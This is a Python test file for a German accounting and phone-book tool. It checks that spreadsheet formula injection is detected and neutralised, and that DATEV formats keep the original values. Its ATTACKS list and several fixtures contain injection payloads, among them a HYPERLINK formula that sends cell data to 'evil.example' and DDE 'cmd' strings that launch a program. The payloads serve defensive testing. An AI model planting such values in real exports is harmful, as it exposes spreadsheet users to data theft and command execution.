"""Issue 14.10: formula injection. Checks warn (``field.formula_like``), every spreadsheet file
neutralises, DATEV's own formats keep the value."""

import csv

import polars as pl
import pytest

from workbench.calls.phonebook import AddressBookSettings, build_phone_book
from workbench.calls.phonebook_files import starface_csv
from workbench.checks import check_sources
from workbench.sources import load_calls, load_invoices, load_receipts
from workbench.spreadsheets import formula_like, is_formula_like, neutralise_cell, neutralise_frame

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
    "=1+1",
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r@SUM(A1)",
    "-- siehe Beleg",
    "+A1",
]
HARMLESS = ["Müller GmbH", "-12,50", "+1.234,56", "+49 30 1234567", "+49 (30) 1234567", "a=b", ""]
#: Not formula-like (no warning), but a spreadsheet export still quotes them: safe side.
QUOTED_ANYWAY = ["-", "-5 %", "\tMüller"]


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_like_values_are_recognised_and_neutralised(value):
    assert is_formula_like(value)
    assert neutralise_cell(value) == "'" + value
    assert pl.DataFrame({"v": [value]}).select(formula_like("v"))["v"].to_list() == [True]


@pytest.mark.parametrize("value", HARMLESS)
def test_numbers_phone_numbers_and_text_stay_as_they_are(value):
    assert not is_formula_like(value)
    assert neutralise_cell(value) == value
    assert pl.DataFrame({"v": [value]}).select(formula_like("v"))["v"].to_list() == [False]


@pytest.mark.parametrize("value", QUOTED_ANYWAY)
def test_exports_quote_every_cell_that_starts_like_a_formula(value):
    assert not is_formula_like(value)
    assert neutralise_cell(value) == "'" + value
    assert neutralise_frame(pl.DataFrame({"v": [value]}))["v"].to_list() == ["'" + value]


def test_neutralise_frame_touches_only_formula_like_text():
    frame = pl.DataFrame({"name": ["=1+1", "Müller", None], "amount": [-1.5, 2.0, None]})
    assert neutralise_frame(frame).to_dict(as_series=False) == {
        "name": ["'=1+1", "Müller", None],
        "amount": [-1.5, 2.0, None],
    }


def test_receipts_check_warns_once_per_formula_like_cell(write):
    path = write(
        "belege.csv",
        "InvoiceNo;BookingDate;AccountName;Amount\n"
        'R1;01.01.2026;=HYPERLINK("http://x");1,00\n'
        "R2;01.01.2026;Müller;-12,50\n"
        "@R3;01.01.2026;+49 30 1234567;2,00\n",
    )
    findings = check_sources(load_receipts(path, profile="juston"), settings=None)
    formula = findings.filter(pl.col("rule") == "field.formula_like")
    assert formula.select("row", "column", "source_column", "severity").rows() == [
        (2, "party_name", "AccountName", "warning"),
        (4, "document_id", "InvoiceNo", "warning"),  # one cell, one finding
    ]
    assert all("belege.csv, Zeile" in m for m in formula["message"])


def test_invoice_positions_are_checked_too(write):
    invoices = write(
        "rechnungen.csv",
        "invoice_kind,invoice_id,date,party_name,gross\nRechnung,R1,2026-01-05,Firma,10.00\n",
    )
    positions = write(
        "rechnungen_positionen.csv", "invoice_id,position,name,gross\nR1,1,=1+1,10.00\n"
    )
    findings = check_sources(load_invoices([invoices, positions]), settings=None)
    [hit] = findings.filter(pl.col("rule") == "field.formula_like").to_dicts()
    assert (hit["source"], hit["row"], hit["column"]) == ("rechnungen_positionen.csv", 2, "name")


def test_call_notes_are_checked(write):
    from workbench.checks.formulas import formula_findings

    path = write(
        "anrufe.csv",
        "Anruf-ID;Beginn;Dauer;Richtung;Angenommen;Rufnummer;Nebenstelle;Teilnehmer;Notiz\n"
        "C1;02.01.2026 10:00:00;00:01:00;eingehend;ja;+49 30 1234567;11;X;=1+1\n",
    )
    [hit] = formula_findings(load_calls(path, profile="starface")).to_dicts()
    assert (hit["column"], hit["source_column"], hit["value"]) == ("note", "Notiz", "=1+1")


def test_the_phone_book_export_neutralises_names_and_notes():
    addressees = [
        {
            "id": "A1",
            "status": "active",
            "current_company_name": '=HYPERLINK("http://x")',
            "communications": [{"id": "c1", "type": "phone", "data_content": "030 1234567"}],
        }
    ]
    clients = [{"id": "K1", "number": 10, "name": "+cmd|' /C calc'!A0", "legal_person_id": "A1"}]
    book = build_phone_book(
        clients=clients, addressees=addressees, settings=AddressBookSettings(institutions=False)
    )
    [row] = list(csv.DictReader(starface_csv(book).splitlines(), delimiter=";"))
    assert row["COMPANY"] == '\'=HYPERLINK("http://x")'
    assert row["NOTE"] == "Mandant 10 +cmd|' /C calc'!A0"  # not at the start: no formula
    assert row["PHONE"] == "+49 30 1234567"  # a phone number stays a phone number


def test_datev_files_keep_the_value(tmp_path):
    from workbench.datev.extf import read_extf
    from workbench.mapping import map_receipts

    path = tmp_path / "belege.csv"
    path.write_text(
        "document_id,item_id,document_kind,date,amount,currency_code,account_no,invoice_id,"
        "booking_text\nD1,D1-1,Rechnungsausgang,2026-01-05,119.00,EUR,8400,R1,=1+1\n",
        encoding="utf-8",
    )
    loaded = load_receipts(path)
    findings = check_sources(loaded, settings=None)
    assert "field.formula_like" in findings["rule"].to_list()
    mapped = map_receipts(loaded, findings=findings, client="455148-1")
    assert mapped.records["bookingText"].to_list() == ["=1+1"]
    assert read_extf  # EXTF files are written from the same records, unchanged
